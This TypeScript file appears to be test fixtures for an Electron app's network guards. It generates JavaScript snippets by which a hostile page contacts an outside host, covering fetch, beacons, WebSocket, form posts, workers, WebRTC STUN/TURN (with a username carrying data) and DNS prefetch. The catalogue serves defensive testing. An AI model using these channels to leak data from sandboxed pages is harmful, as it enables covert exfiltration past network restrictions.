/**
 * Ways by which a hostile page tries to say something to a stranger at `at` (`host:port`): the body of an async
 * function of the page, written as such a page would have it.
 */
export const waysOut = {
  fetch: (at) => `await fetch('http://${at}/', { mode: 'no-cors' })`,
  'fetch over TLS': (at) => `await fetch('https://${at}/', { mode: 'no-cors' })`,
  'fetch that outlives the page': (at) => `await fetch('http://${at}/', { mode: 'no-cors', keepalive: true })`,
  XMLHttpRequest: (at) => `const ask = new XMLHttpRequest(); ask.open('GET', 'http://${at}/'); ask.send()`,
  WebSocket: (at) => `new WebSocket('ws://${at}/')`,
  EventSource: (at) => `new EventSource('http://${at}/')`,
  beacon: (at) => `navigator.sendBeacon('http://${at}/', 'plaintext')`,
  image: (at) => `new Image().src = 'http://${at}/x.png'`,
  'style sheet': (at) => element('link', `{ rel: 'stylesheet', href: 'http://${at}/x.css' }`),
  font: (at) => `await new FontFace('x', 'url(http://${at}/x.woff2)').load()`,
  script: (at) => element('script', `{ src: 'http://${at}/x.js' }`),
  module: (at) => `await import('http://${at}/x.js')`,
  video: (at) => element('video', `{ src: 'http://${at}/x.mp4', preload: 'auto' }`),
  frame: (at) => element('iframe', `{ src: 'http://${at}/' }`),
  object: (at) => element('object', `{ data: 'http://${at}/', type: 'text/html' }`),
  prefetch: (at) => element('link', `{ rel: 'prefetch', href: 'http://${at}/' }`),
  preload: (at) => element('link', `{ rel: 'preload', as: 'image', href: 'http://${at}/x.png' }`),
  worker: (at) => `
    const code = new Blob(["fetch('http://${at}/', { mode: 'no-cors' })"], { type: 'text/javascript' });
    new Worker(URL.createObjectURL(code))`,
  form: (at) => `
    const form = Object.assign(document.createElement('form'), { method: 'post', action: 'http://${at}/', target: 'x' });
    const frame = Object.assign(document.createElement('iframe'), { name: 'x' });
    document.body.append(frame, form);
    form.submit()`,
  'another window': (at) => `window.open('http://${at}/')`,
  STUN: (at) => gather(`'stun:${at}'`),
  'TURN over UDP': (at) => gather(`'turn:${at}?transport=udp'`),
  'TURN over TCP': (at) => gather(`'turn:${at}?transport=tcp'`),
  'TURN over TLS': (at) => gather(`'turns:${at}?transport=tcp'`),
  navigation: (at) => `setTimeout(() => { location.href = 'http://${at}/'; }, 0)`,
} as const satisfies Readonly<Record<string, (at: string) => string>>;

/** Ways that are shut in Electron even without guards, so far. */
export const waysThatMayCome = {
  'connecting beforehand': (at) => element('link', `{ rel: 'preconnect', href: 'http://${at}/' }`),
  'speculation rules': (at) => `
    const rules = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://${at}/'] }] });
    ${element('script', `{ type: 'speculationrules', textContent: rules }`)}`,
  WebTransport: (at) => `await new WebTransport('https://${at}/').ready`,
  'service worker': (at) => `await navigator.serviceWorker.register('http://${at}/x.js')`,
  'payment handler': (at) => `
    const how = [{ supportedMethods: 'https://${at}/pay' }];
    await new PaymentRequest(how, { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
} as const satisfies Readonly<Record<string, (at: string) => string>>;

/** Ways to have a name looked up, which says the name to whoever is asked. */
export const askingForNames = {
  fetch: (name) => `await fetch('https://${name}/', { mode: 'no-cors' })`,
  'looking up beforehand': (name) => element('link', `{ rel: 'dns-prefetch', href: '//${name}/' }`),
  'connecting beforehand': (name) => element('link', `{ rel: 'preconnect', href: 'https://${name}/' }`),
  STUN: (name) => gather(`'stun:${name}:3478'`),
  TURN: (name) => gather(`'turn:${name}:3478?transport=tcp'`),
} as const satisfies Readonly<Record<string, (name: string) => string>>;

function element(tag: string, properties: string): string {
  return `document.body.append(Object.assign(document.createElement('${tag}'), ${properties}))`;
}

/** The user name of TURN carries whatever a page wants to say. */
function gather(url: string): string {
  return `
    const server = { urls: ${url}, ...(${url}.startsWith('turn') ? { username: 'plaintext', credential: 'x' } : {}) };
    const connection = new RTCPeerConnection({ iceServers: [server], iceCandidatePoolSize: 1 });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer())`;
}
